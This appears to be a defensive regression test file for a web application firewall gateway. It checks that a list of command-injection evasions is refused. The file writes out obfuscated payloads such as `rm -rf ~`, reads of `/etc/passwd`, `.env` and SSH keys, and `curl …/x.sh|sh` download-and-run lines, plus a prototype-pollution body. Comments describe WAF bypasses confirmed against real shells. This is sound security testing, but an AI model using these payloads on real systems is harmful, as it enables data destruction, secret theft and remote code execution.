// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 21 (round 14 of the WAF evasion audit): commit 47ce6fc's API profile, aimed at what it added: SHELL_NOISE
 * (quote removal and empty expansions `$@`, `$*`, `$1-9`, `${…}` inside command and dot-file names, used by
 * `quoted()` in 90111, 90137, 90139, 90135's `$0` and 90119's curl/wget), PREFIX_WORD (launchers with options),
 * the new 90139 alternatives (a command word with a glued empty expansion; installers given a URL),
 * prototypePathArgs (every value of a name) and view.ts networkTool (version suffixes).
 * Against the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a
 * recording upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream
 * never sees it. The techniques that got through are in the audit's report, not here.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);
/** A POST of a benign JSON body with one extra request header (name, value). */
const hdr = (name: string, value: string): Buffer =>
  req('POST', '/x', [...JSON_CT, [name, value]], J({ name: 'ok' }));

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** The address a ping form expects, before the injected command. */
const IP = '127.0.0.1';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) SHELL_NOISE: `${…}` forms with operators are empty expansions too; the rules still read the word.
  { name: 'noise: ;r${x:-}m -rf ~', build: () => json('host', `${IP};r\${x:-}m -rf ~`) },
  { name: 'noise: ;i${x:-}d', build: () => json('host', `${IP};i\${x:-}d`) },
  { name: 'noise: ;i${x-}d', build: () => json('host', `${IP};i\${x-}d`) },
  { name: 'noise: ;i${x#*}d', build: () => json('host', `${IP};i\${x#*}d`) },
  { name: 'noise: ;i${x:+y}d', build: () => json('host', `${IP};i\${x:+y}d`) },
  { name: 'noise: ;i${#x}d', build: () => json('host', `${IP};i\${#x}d`) },
  { name: 'noise: ;r${!x}m -rf ~ (indirect expansion)', build: () => json('host', `${IP};r\${!x}m -rf ~`) },
  {
    name: 'noise: ;r$(:)m -rf ~ (a substitution of the null command)',
    build: () => json('host', `${IP};r$(:)m -rf ~`),
  },
  { name: 'noise: ;cat .e${x:-}nv', build: () => json('host', `${IP};cat .e\${x:-}nv`) },
  { name: 'noise: ;${x:-}$0 -c id', build: () => json('host', `${IP};\${x:-}$0 -c id`) },
  { name: 'noise: ;i$@"d" (an expansion and quotes together)', build: () => json('host', `${IP};i$@"d"`) },
  { name: 'noise: ;base64 ~/.s$!sh/id_rsa', build: () => json('host', `${IP};base64 ~/.s$!sh/id_rsa`) },
  // (2) PREFIX_WORD: launchers with non-numeric option arguments, or not in the list.
  { name: 'prefix: ;timeout 9 id', build: () => json('host', `${IP};timeout 9 id`) },
  { name: 'prefix: ;timeout 9 rm -rf ~', build: () => json('host', `${IP};timeout 9 rm -rf ~`) },
  { name: 'prefix: ;env -u X id', build: () => json('host', `${IP};env -u X id`) },
  { name: 'prefix: ;env -u X rm -rf ~', build: () => json('host', `${IP};env -u X rm -rf ~`) },
  { name: 'prefix: ;env -C / id', build: () => json('host', `${IP};env -C / id`) },
  { name: 'prefix: ;taskset 1 id', build: () => json('host', `${IP};taskset 1 id`) },
  { name: 'prefix: ;taskset 1 rm -rf ~', build: () => json('host', `${IP};taskset 1 rm -rf ~`) },
  { name: 'prefix: ;stdbuf -o L id', build: () => json('host', `${IP};stdbuf -o L id`) },
  { name: 'prefix: ;ionice -c idle id', build: () => json('host', `${IP};ionice -c idle id`) },
  { name: 'prefix: ;nice -n 5 -- id', build: () => json('host', `${IP};nice -n 5 -- id`) },
  { name: 'prefix: ;exec -a x id', build: () => json('host', `${IP};exec -a x id`) },
  { name: 'prefix: ;command -p id', build: () => json('host', `${IP};command -p id`) },
  { name: 'prefix: ;env -u X $0 -c id', build: () => json('host', `${IP};env -u X $0 -c id`) },
  { name: 'prefix: ;timeout 9 $0 -c id', build: () => json('host', `${IP};timeout 9 $0 -c id`) },
  // (2b) The same in a query parameter and in a header (90119 reads curl/wget with the same noise).
  { name: 'query: ?host=…;env -u X id', build: () => get(`/api/ping?host=${E(`${IP};env -u X id`)}`) },
  { name: 'query: ?host=…;i${x:-}d', build: () => get(`/api/ping?host=${E(`${IP};i\${x:-}d`)}`) },
  {
    name: 'header: x;c$@url 203.0.113.9/x.sh|sh (CRS PL1 and PL2 pass it)',
    build: () => hdr('X-Debug', 'x;c$@url 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'header: x;rm -rf ~ (CRS PL1 and PL2 pass it)',
    build: () => hdr('X-Debug', 'x;rm -rf ~'),
  },
  // (3) Installers and networkTool: options before the URL, version suffixes.
  {
    name: 'installer: pip3.12 install -r https://… (CRS PL1 passes it)',
    build: () => json('note', 'Ok ; pip3.12 install -r https://evil.example/r.txt'),
  },
  {
    name: 'installer: pip install --index-url https://… pkg (CRS PL1 passes it)',
    build: () => json('note', 'Ok ; pip install --index-url https://evil.example/simple pkg'),
  },
  {
    name: 'installer: pip install -i https://… pkg (CRS PL1 passes it)',
    build: () => json('note', 'Ok ; pip install -i https://evil.example/simple pkg'),
  },
  {
    name: 'installer: python3.12 -m pip install https://…',
    build: () => json('note', 'Ok ; python3.12 -m pip install https://evil.example/pkg.tar.gz'),
  },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

// Audit 21's bypasses, each confirmed against dash/bash or Node at the time (200, the upstream received it),
// closed the same session: refused now.
// Audit 21's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking, commit 47ce6fc), each answered 200
// by the gateway and received by the upstream. Same shapes as test/integration/audit21-waf-evasion.test.ts (json,
// doc, hdr, get, E, IP, J, Case, H2_POST). IP = '127.0.0.1'.
// "Confirmed" (shell) means: the value interpolated into `sh -c "echo log $v"` in a throwaway directory with a fake
// $HOME holding a fake .env, and a fake `curl`/`wget` first on PATH (printing `echo PWNED…`), under dash 0.5 and
// bash 5 (`rm -rf ~` deleted the fake $HOME; `id` printed uid=0; `whoami` printed root; `cat` printed the secret or
// /etc/passwd; the fake curl's output was run by sh).
const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE / destruction; CRS PL1 passes, PL2 refuses). SHELL_NOISE and the new 90139 "glued empty expansion"
  // alternative know `$@`, `$*`, `$1-9` and `${name}` only. Three other spellings expand to nothing in a fresh
  // `sh -c`: `$!` (no background job yet: empty in dash and bash), an empty command substitution `$()` and an empty
  // backtick pair ``. So `r$!m`, `i$()d`, `who$()ami`, `ca$!t` are never read as rm/id/whoami/cat by 90111, 90139,
  // nor by CRS PL1's 932 rules. Confirmed in dash and bash (home deleted, uid=0, root, /etc/passwd printed).
  {
    name: 'B1 ;r$!m -rf ~ ($! is empty before any background job)',
    build: () => json('host', `${IP};r$!m -rf ~`),
  },
  {
    name: 'B1b ;r$()m -rf ~ (an empty command substitution)',
    build: () => json('host', `${IP};r$()m -rf ~`),
  },
  {
    name: 'B1c report.pdf;r$!m -rf ~ in a file name field',
    build: () => json('name', 'report.pdf;r$!m -rf ~'),
  },
  {
    name: 'B1d ;time -p r$!m -rf ~ (behind a launcher)',
    build: () => json('host', `${IP};time -p r$!m -rf ~`),
  },
  { name: 'B1e ;i$!d', build: () => json('host', `${IP};i$!d`) },
  { name: 'B1f ;i``d (an empty backtick pair)', build: () => json('host', `${IP};i\`\`d`) },
  { name: 'B1g &&i$()d', build: () => json('host', `${IP}&&i$()d`) },
  { name: 'B1h |i$!d', build: () => json('host', `${IP}|i$!d`) },
  { name: 'B1i a whole value `i$!d` in backticks', build: () => json('host', '`i$!d`') },
  { name: 'B1j ;who$()ami', build: () => json('host', `${IP};who$()ami`) },
  {
    name: 'B1k ;ca$!t /et$!c/pa$!sswd (reads /etc/passwd)',
    build: () => json('host', `${IP};ca$!t /et$!c/pa$!sswd`),
  },
  { name: 'B1l ;s$!leep 10 (blind timing probe)', build: () => json('host', `${IP};s$!leep 10`) },
  {
    name: 'B1m ;c$!url 203.0.113.9/x.sh|sh in a body (download and run)',
    build: () => json('host', `${IP};c$!url 203.0.113.9/x.sh|sh`),
  },
  {
    name: 'B1n ;cu``rl 203.0.113.9/x.sh|sh in a body',
    build: () => json('host', `${IP};cu\`\`rl 203.0.113.9/x.sh|sh`),
  },
  {
    name: 'B1o query parameter ?host=…;r$!m -rf ~',
    build: () => get(`/api/ping?host=${E(`${IP};r$!m -rf ~`)}`),
  },

  // B2 (RCE; CRS PL1 AND PL2 pass). `$()$0 -c id`: 90135's INTERPRETER_ONE_LINER allows SHELL_NOISE before `$0`,
  // which does not include `$()`; CRS finds nothing at PL2 either. Confirmed in dash and bash (uid=0).
  { name: 'B2 ;$()$0 -c id (PL2 passes it too)', build: () => json('host', `${IP};$()$0 -c id`) },
  { name: 'B2b ;$!$0 -c id (PL2 passes it too)', build: () => json('host', `${IP};$!$0 -c id`) },
  { name: 'B2c ;$0$() -c id', build: () => json('host', `${IP};$0$() -c id`) },
  { name: 'B2d ;$0`` -c id', build: () => json('host', `${IP};$0\`\` -c id`) },
  { name: 'B2e ;$0$! -c id', build: () => json('host', `${IP};$0$! -c id`) },
  // A backtick pair holding a space (` `) is also empty, and CRS PL2 misses it inside rm/id as well: confirmed in
  // dash and bash (home deleted, uid=0).
  { name: 'B2f ;r` `m -rf ~ (PL2 passes it too)', build: () => json('host', `${IP};r\` \`m -rf ~`) },
  { name: 'B2g ;i` `d', build: () => json('host', `${IP};i\` \`d`) },

  // B3 (download-and-run and destruction in a request header; CRS PL1 AND PL2 pass). HEADER_COMMAND's inline
  // noise class knows `${name}` but not `${x:-}` (nor `$!`, `$()`, ``); `x;rm -rf ~` and `x;c$@url …|sh` in a header
  // are refused (in the test file). Confirmed in dash and bash: the fake curl/wget's script ran, home deleted.
  {
    name: 'B3 header x;c${x:-}url 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;c${x:-}url 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'B3b header x;c$!url 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;c$!url 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'B3c header x;c$()url 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;c$()url 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'B3d header x;cu``rl 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;cu``rl 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'B3e header x;w${x:-}get -qO- 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;w${x:-}get -qO- 203.0.113.9/x.sh|sh'),
  },
  { name: 'B3f header x;r$!m -rf ~', build: () => hdr('X-Debug', 'x;r$!m -rf ~') },

  // B4 (prototype pollution; CRS PL1 AND PL2 pass, the plain array is refused by the API profile only).
  // prototypePathArgs drops every argument of a name that is a "container" (a parent name with a numeric value).
  // A member literally named "path.1" with a number, plus a member "path.1.x" that makes "path.1" a parent, turns
  // the name json.path.1 into a container: the real element "prototype" is dropped with it, and
  // `constructor.prototype.isAdmin` is never joined. Order does not matter. Confirmed in Node 24: a naive
  // `set({}, body.path, body.v)` (`t = t[k] ??= {}`) made `({}).isAdmin === true`, both orders.
  {
    name: 'B4 members "path.1": 7 and "path.1.x" make path.1 a container',
    build: () => doc({ 'path.1': 7, 'path.1.x': 1, path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },
  {
    name: 'B4b the same members after the array',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'], v: true, 'path.1': 7, 'path.1.x': 1 }),
  },

  // B5 (dot-file secrets; CRS PL1 passes, PL2 refuses). 90137 DOTFILE_READ's quoted() has the same gap.
  // Confirmed in dash and bash: the fake .env was printed.
  { name: 'B5 ;cat .e$!nv', build: () => json('host', `${IP};cat .e$!nv`) },
  { name: 'B5b ;cat .e$()nv', build: () => json('host', `${IP};cat .e$()nv`) },
  { name: 'B5c ;cat .e``nv', build: () => json('host', `${IP};cat .e\`\`nv`) },

  // B6 (bash backends only; CRS PL1 passes, PL2 refuses). ANSI-C quoting `$'…'`: SHELL_NOISE removes quotes but not
  // the `$` before them. dash 0.5 runs `$rm` (not found); bash deleted the fake $HOME and printed uid=0.
  { name: "B6 ;$'r'm -rf ~ (bash)", build: () => json('host', `${IP};$'r'm -rf ~`) },
  { name: "B6b ;$'i'd (bash)", build: () => json('host', `${IP};$'i'd`) },
  {
    name: "B6c ;$'\\x69\\x64' (bash: hex escapes spell id)",
    build: () => json('host', `${IP};$'\\x69\\x64'`),
  },

  // B7 (installing attacker code; CRS PL1 passes, PL2 refuses). The 90139 installer alternative wants
  // `https?://` (optionally `git+`) right after the tool and one sub-command: `git+ssh://` and `uv pip install`
  // escape it. pip was seen to run `git clone … ssh://…` (offline: connection refused), which then builds and runs
  // the package's setup code; `uv` is not installed here, so B7b is not confirmed.
  {
    name: 'B7 Ok ; pip install git+ssh://git@evil.example/x',
    build: () => json('note', 'Ok ; pip install git+ssh://git@evil.example/x'),
  },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: ';r${x:-}m -rf ~', headers: H2_POST, body: J({ host: `${IP};r\${x:-}m -rf ~` }) },
  { name: ';env -u X rm -rf ~', headers: H2_POST, body: J({ host: `${IP};env -u X rm -rf ~` }) },
  {
    name: 'query parameter: ;timeout 9 id',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};timeout 9 id`)}` },
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ host: `${IP};r$!m -rf ~` }) },
  { name: 'B2 over h2', headers: H2_POST, body: J({ host: `${IP};$()$0 -c id` }) },
  {
    name: 'B3 over h2',
    headers: { ...H2_POST, 'x-debug': 'x;c${x:-}url 203.0.113.9/x.sh|sh' },
    body: J({ name: 'ok' }),
  },
  {
    name: 'B4 over h2',
    headers: H2_POST,
    body: J({ 'path.1': 7, 'path.1.x': 1, path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },
  { name: 'B5 over h2', headers: H2_POST, body: J({ host: `${IP};cat .e$()nv` }) },
];

describe(
  'audit21: WAF evasions of commit 47ce6fc (empty expansions, launcher options, installers, version suffixes) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit21-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('note', 'the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken'),
        json('msg', 'You have {count, plural, one {# new message} other {# new messages}} from {name}'),
        json('note', '### Load notes\n| Weight | 42,500 lb |\n|---|---|\n| Pallets | 26 |'),
        hdr('X-Client-Note', 'checkout flow, step 2 of 3'),
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        doc({ path: ['profile', 'settings', 'theme'] }),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
